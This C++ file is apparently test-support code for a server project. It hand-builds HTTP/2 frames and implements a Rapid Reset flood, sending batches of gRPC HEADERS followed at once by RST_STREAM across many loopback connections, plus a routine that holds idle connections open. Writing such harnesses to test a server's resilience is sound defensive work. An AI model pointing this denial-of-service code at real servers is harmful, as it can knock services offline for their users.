#include "tests/support/h2_attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include "absl/time/clock.h"

namespace clipforge::testing::h2 {
namespace {

constexpr uint8_t kHeaders = 0x1, kRstStream = 0x3, kSettings = 0x4, kPing = 0x6,
                  kGoaway = 0x7;
constexpr uint8_t kEndHeaders = 0x4, kAck = 0x1;

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream_id, const std::string& payload) {
  std::string frame;
  const uint32_t length = static_cast<uint32_t>(payload.size());
  frame.push_back(static_cast<char>(length >> 16));
  frame.push_back(static_cast<char>(length >> 8));
  frame.push_back(static_cast<char>(length));
  frame.push_back(static_cast<char>(type));
  frame.push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8) frame.push_back(static_cast<char>((stream_id >> shift) & 0xFF));
  return frame + payload;
}

// An HPACK string: 7-bit length prefix, no Huffman (values here are < 127).
std::string HpackString(const std::string& value) { return std::string(1, static_cast<char>(value.size())) + value; }

// Literal header field without indexing, name from static table entry
// `index` (< 15: 4-bit prefix).
std::string LiteralIndexedName(int index, const std::string& value) {
  return std::string(1, static_cast<char>(index)) + HpackString(value);
}

// Literal header field without indexing, new name.
std::string LiteralNewName(const std::string& name, const std::string& value) {
  return std::string(1, '\0') + HpackString(name) + HpackString(value);
}

bool WriteAll(int fd, const char* data, size_t size) {
  while (size > 0) {
    const ssize_t n = send(fd, data, size, MSG_NOSIGNAL);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) return false;
    data += n;
    size -= static_cast<size_t>(n);
  }
  return true;
}

// What the attacker does with the peer's frames: acknowledges SETTINGS and
// PING (an unacknowledged SETTINGS may get the connection closed), counts
// GOAWAY, drops the rest.
class FrameReader {
 public:
  // Reads what is available without blocking; false when the peer closed.
  bool Pump(int fd, std::string& replies, int64_t& goaways) {
    char buffer[16384];
    for (;;) {
      const ssize_t n = recv(fd, buffer, sizeof buffer, MSG_DONTWAIT);
      if (n == 0) return false;
      if (n < 0) {
        if (errno == EINTR) continue;
        return errno == EAGAIN || errno == EWOULDBLOCK;
      }
      pending_.append(buffer, static_cast<size_t>(n));
      Parse(replies, goaways);
    }
  }

 private:
  void Parse(std::string& replies, int64_t& goaways) {
    size_t at = 0;
    while (pending_.size() - at >= 9) {
      const auto* p = reinterpret_cast<const uint8_t*>(pending_.data() + at);
      const size_t length = (size_t{p[0]} << 16) | (size_t{p[1]} << 8) | p[2];
      if (pending_.size() - at < 9 + length) break;
      const uint8_t type = p[3], flags = p[4];
      if (type == kSettings && !(flags & kAck)) replies += Frame(kSettings, kAck, 0, "");
      if (type == kPing && !(flags & kAck)) replies += Frame(kPing, kAck, 0, pending_.substr(at + 9, length));
      if (type == kGoaway) ++goaways;
      at += 9 + length;
    }
    pending_.erase(0, at);
  }

  std::string pending_;
};

}  // namespace

std::string ClientPreface() {
  return std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + Frame(kSettings, 0, 0, "");
}

std::string GrpcRequestHeaders(uint32_t stream_id, const std::string& authority, const std::string& path) {
  std::string block;
  block += '\x83';  // :method POST (static table 3, indexed)
  block += '\x86';  // :scheme http (static table 6, indexed)
  block += LiteralIndexedName(4, path);       // :path
  block += LiteralIndexedName(1, authority);  // :authority
  block += LiteralNewName("content-type", "application/grpc");
  block += LiteralNewName("te", "trailers");
  return Frame(kHeaders, kEndHeaders, stream_id, block);
}

std::string RstStream(uint32_t stream_id, uint32_t error_code) {
  std::string code;
  for (int shift = 24; shift >= 0; shift -= 8) code.push_back(static_cast<char>((error_code >> shift) & 0xFF));
  return Frame(kRstStream, 0, stream_id, code);
}

int ConnectFrom(const std::string& source, int port) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  sockaddr_in local{};
  local.sin_family = AF_INET;
  local.sin_port = 0;
  inet_pton(AF_INET, source.c_str(), &local.sin_addr);
  sockaddr_in remote{};
  remote.sin_family = AF_INET;
  remote.sin_port = htons(static_cast<uint16_t>(port));
  remote.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  if (bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof local) != 0 ||
      connect(fd, reinterpret_cast<sockaddr*>(&remote), sizeof remote) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

RapidResetStats RapidReset(const std::string& source, int port, const std::string& path, absl::Time deadline) {
  constexpr int kPairsPerWrite = 64;
  const std::string authority = "127.0.0.1:" + std::to_string(port);
  RapidResetStats stats;
  while (absl::Now() < deadline) {
    const int fd = ConnectFrom(source, port);
    if (fd < 0) {
      ++stats.failed_connects;
      absl::SleepFor(absl::Milliseconds(10));
      continue;
    }
    ++stats.connections;
    FrameReader reader;
    // Writes `data` without ever blocking on a peer that has stopped
    // reading because we do not read its replies: reads while waiting.
    const auto send_pumping = [&](std::string data) {
      size_t at = 0;
      while (at < data.size() && absl::Now() < deadline) {
        const ssize_t n = send(fd, data.data() + at, data.size() - at, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (n > 0) {
          at += static_cast<size_t>(n);
          continue;
        }
        if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) return false;
        pollfd p{fd, POLLIN | POLLOUT, 0};
        if (poll(&p, 1, 100) < 0 && errno != EINTR) return false;
        if (p.revents & (POLLIN | POLLHUP | POLLERR)) {
          std::string replies;
          if (!reader.Pump(fd, replies, stats.goaways)) return false;
          data += replies;  // Acks go out after what is queued: still in order.
        }
      }
      return at == data.size();
    };
    bool open = send_pumping(ClientPreface());
    uint32_t stream_id = 1;
    std::string batch;
    while (open && absl::Now() < deadline && stream_id < (1u << 30)) {
      batch.clear();
      for (int i = 0; i < kPairsPerWrite; ++i, stream_id += 2) {
        batch += GrpcRequestHeaders(stream_id, authority, path);
        batch += RstStream(stream_id);
      }
      std::string replies;
      open = reader.Pump(fd, replies, stats.goaways) && send_pumping(replies + batch);
      if (open) stats.streams_sent += kPairsPerWrite;
    }
    close(fd);
  }
  return stats;
}

std::vector<int> OpenIdleConnections(const std::string& source, int port, int count) {
  const std::string preface = ClientPreface();
  std::vector<int> fds;
  for (int i = 0; i < count; ++i) {
    const int fd = ConnectFrom(source, port);
    if (fd < 0) continue;
    if (!WriteAll(fd, preface.data(), preface.size())) {
      close(fd);
      continue;
    }
    fds.push_back(fd);
  }
  return fds;
}

int CountOpen(const std::vector<int>& fds) {
  int open = 0;
  for (const int fd : fds) {
    std::string ignored_replies;
    int64_t ignored_goaways = 0;
    FrameReader reader;
    if (reader.Pump(fd, ignored_replies, ignored_goaways)) ++open;
  }
  return open;
}

void CloseAll(std::vector<int>& fds) {
  for (const int fd : fds) close(fd);
  fds.clear();
}

}  // namespace clipforge::testing::h2
